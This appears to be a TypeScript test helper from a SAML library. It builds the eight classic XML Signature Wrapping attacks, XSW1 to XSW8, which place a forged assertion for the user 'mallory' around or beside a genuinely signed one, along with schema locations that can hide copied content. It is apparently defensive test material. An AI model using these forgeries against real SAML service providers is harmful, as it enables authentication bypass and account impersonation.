import { assertionId, assertionXml, nameIdXml, responseId, responseXml } from './response.ts'

/** A genuine signed document taken apart, for signature wrapping. */
export interface Parts {
  /** The genuine response as text. */
  readonly response: string
  /** The genuine assertion with and without its signature. */
  readonly assertion: string
  readonly bare: string
  /** The first signature, of whatever is signed. */
  readonly signature: string
}

export function partsOf(response: string): Parts {
  const [assertion = ''] = /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(response) ?? []
  const [signature = ''] = /<ds:Signature [\s\S]*?<\/ds:Signature>/.exec(response) ?? []
  return { response, assertion, bare: assertion.replace(signature, ''), signature }
}

export const evilId = '_evil-1'
/** What the attacker wants read. */
export const evil = assertionXml({ nameId: nameIdXml('mallory') }).replace(assertionId, evilId)
export const evilSameId = assertionXml({ nameId: nameIdXml('mallory') })

const object = (inside: string) =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inside}</ds:Object>`
/** Puts something at the end of a signature, inside it. */
export const inSignature = (signature: string, inside: string) =>
  signature.replace('</ds:Signature>', `${object(inside)}</ds:Signature>`)
/** Puts something after the Issuer of an assertion or response. */
export const afterIssuer = (element: string, inserted: string) =>
  element.replace(/<\/saml:Issuer>/, closing => closing + inserted)
const inside = (element: string, inserted: string) =>
  element.replace(/<\/saml:Assertion>$/, closing => inserted + closing)
const evilResponse = (assertion: string, id = '_evil-response') =>
  responseXml({}, assertion).replace(responseId, id)

/** The eight classic wrappings (Somorovsky et al., as SAML Raider builds them), for a signed response and a signed assertion. */
export const wrappings: Readonly<Record<string, (onResponse: Parts, onAssertion: Parts) => string>> = {
  'XSW1: the signed response inside the signature of an evil one': r =>
    afterIssuer(evilResponse(evil), inSignature(r.signature, r.response.replace(r.signature, ''))),
  'XSW2: the signed response beside its signature in an evil one': r =>
    afterIssuer(evilResponse(evil), r.response.replace(r.signature, '') + r.signature),
  'XSW3: an evil assertion before the signed one': (_, a) => responseXml({}, evil + a.assertion),
  'XSW4: the signed assertion inside an evil one': (_, a) => responseXml({}, inside(evil, a.assertion)),
  'XSW5: the signature on an evil assertion, the bare signed one at the end': (_, a) =>
    responseXml({}, afterIssuer(evil, a.signature) + a.bare),
  'XSW6: the bare signed assertion inside the signature of an evil one': (_, a) =>
    responseXml({}, afterIssuer(evil, inSignature(a.signature, a.bare))),
  'XSW7: an evil assertion with the same id in Extensions': (_, a) =>
    responseXml({ extensions: `<samlp:Extensions>${evilSameId}</samlp:Extensions>` }, a.assertion),
  'XSW8: the bare signed assertion in an Object, an evil one with the same id around it': (_, a) =>
    responseXml({}, afterIssuer(evilSameId, inSignature(a.signature, a.bare))),
}

/** Places that can hold a copy, by name: what is moved is wrapped in XML that schemas allow anything in. */
export const places: Readonly<Record<string, (moved: string) => string>> = {
  Extensions: moved => `<samlp:Extensions>${moved}</samlp:Extensions>`,
  StatusDetail: moved =>
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/><samlp:StatusDetail>${moved}</samlp:StatusDetail></samlp:Status>`,
  Advice: moved => `<saml:Advice xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${moved}</saml:Advice>`,
  Object: object,
  nothing: moved => moved,
}
